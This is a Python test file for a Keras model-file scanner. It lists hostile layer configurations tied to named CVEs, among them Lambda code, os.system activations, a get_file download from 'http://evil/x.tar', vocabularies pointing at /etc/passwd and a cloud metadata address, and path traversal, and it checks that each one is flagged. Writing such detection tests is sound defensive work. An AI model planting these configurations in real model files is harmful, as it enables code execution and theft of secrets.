"""One configuration for each way a Keras file has run code, read files or called servers."""

import base64
import io
import json
import zipfile
from pathlib import Path

import pytest

from steelyard.admit.rules import registry
from steelyard.formats.base import BytesSource
from steelyard.formats.hdf5 import FORMAT as HDF5
from steelyard.formats.keras_config import FORMAT

REGISTRY = registry()
DATA = Path(__file__).parents[1] / "data" / "keras"


def layer(
    name: str, module: str | None = "keras.layers", registered: str | None = None, **config: object
) -> dict:
    return {"module": module, "class_name": name, "config": config, "registered_name": registered}


def rules_of(*layers: dict) -> set[str]:
    model = layer("Sequential", "keras", layers=list(layers))
    raw = json.dumps(model).encode()
    assert FORMAT.sniff(raw[:4096], "config.json")
    return {finding.rule for finding in FORMAT.read(BytesSource(raw), "config.json").findings}


CODE = base64.b64encode(b"\xe3" + bytes(20)).decode()


@pytest.mark.parametrize(
    ("attack", "rule"),
    [
        # CVE-2024-3660 and CVE-2025-9905: marshalled code in a Lambda layer
        (layer("Lambda", function={"class_name": "__lambda__", "config": {"code": CODE}}), "keras/code"),
        (layer("Lambda", function=[CODE, None, None], function_type="lambda"), "keras/code"),
        # CVE-2025-1550: any module, any function
        (layer("Dense", activation={"module": "os", "class_name": "function", "config": "system"}), "keras/module"),
        (layer("system", "os"), "keras/module"),
        (layer("run", "keras.src.utils"), "keras/module"),
        (layer("Dense", "keras.layers/../os"), "keras/module"),
        (layer("Dense", "kerasX.layers"), "keras/module"),
        # CVE-2025-8747 and CVE-2025-12638: functions of Keras that download and unpack
        (layer("Dense", activation={"module": "keras.utils", "class_name": "function",
                                    "config": "get_file"}), "keras/module"),
        (layer("get_file", "keras.utils", origin="http://evil/x.tar"), "keras/file"),
        # CVE-2025-9906: a function that turns safe mode off
        (layer("Dense", activation={"module": "keras.config", "class_name": "function",
                                    "config": "enable_unsafe_deserialization"}), "keras/module"),
        (layer("TorchModuleWrapper", module_bytes="gASVIQ=="), "keras/code"),
        # CVE-2025-12058: vocabularies by path or address
        (layer("StringLookup", vocabulary="/etc/passwd"), "keras/file"),
        (layer("IntegerLookup", vocabulary="http://169.254.169.254/latest/meta-data"), "keras/file"),
        (layer("TextVectorization", vocabulary="gs://bucket/words.txt"), "keras/file"),
        (layer("Dense", anything="../../secrets"), "keras/file"),
        # CVE-2026-1462: a SavedModel from a folder of the attacker's choice
        (layer("TFSMLayer", filepath="/tmp/evil"), "keras/code"),
        (layer("JaxLayer", call_fn="x"), "keras/code"),
        (layer("Evil", registered="my_package>Evil"), "keras/custom"),
        (layer("Dense", registered="my_package>Dense"), "keras/custom"),
        (layer("Evil"), "keras/class"),
        (layer("Dense", activation="os.system"), "keras/function"),
        (layer("Dense", kernel_initializer="my_initializer"), "keras/function"),
        (layer("TFOpLambda", None, function="io.read_file"), "keras/function"),
        (layer("TFOpLambda", None, function="py_function"), "keras/function"),
        (layer("Dense", fn_module="os"), "keras/code"),
        ({"class_name": 7, "config": {}}, "keras/shape"),
        ({"class_name": "__typespec__", "module": "os", "spec_name": "system", "config": []}, "keras/module"),
    ],
)  # fmt: skip
def test_object_outside_keras_refuses(attack: dict, rule: str) -> None:
    assert rule in rules_of(attack)


def test_custom_loss_refuses() -> None:
    raw = json.dumps(
        {**layer("Sequential", "keras", layers=[]), "compile_config": {"loss": "evil_loss"}}
    ).encode()
    assert {f.rule for f in FORMAT.read(BytesSource(raw), "m.json").findings} == {"keras/function"}


def test_lambda_inside_the_archive_refuses() -> None:
    """The same archive Keras wrote, with one layer of its configuration exchanged."""
    target = io.BytesIO()
    with zipfile.ZipFile(DATA / "dense_3_15.keras") as source, zipfile.ZipFile(target, "w") as archive:
        for name in source.namelist():
            raw = source.read(name)
            archive.writestr(name, raw.replace(b'"class_name": "Dense"', b'"class_name": "Lambda"'))
    report = REGISTRY.read(BytesSource(target.getvalue()), "model.keras")
    assert {(f.rule, f.member) for f in report.findings} >= {("keras/code", "config.json/Lambda")}


def test_lambda_in_the_attribute_of_an_h5_file_refuses() -> None:
    raw = (DATA / "sequential_2_15.h5").read_bytes()
    assert HDF5.read(BytesSource(raw), "m.h5").findings == ()
    hostile = raw.replace(b'"class_name": "Dense"', b'"class_name": "Crash"')
    assert {f.rule for f in HDF5.read(BytesSource(hostile), "m.h5").findings} == {"keras/class"}


def test_archive_with_a_flipped_bit_refuses() -> None:
    raw = bytearray((DATA / "dense_3_15.keras").read_bytes())
    at = raw.index(b"sequential_3")
    raw[at] ^= 1
    report = REGISTRY.read(BytesSource(bytes(raw)), "model.keras")
    assert "zip/crc" in {finding.rule for finding in report.findings}
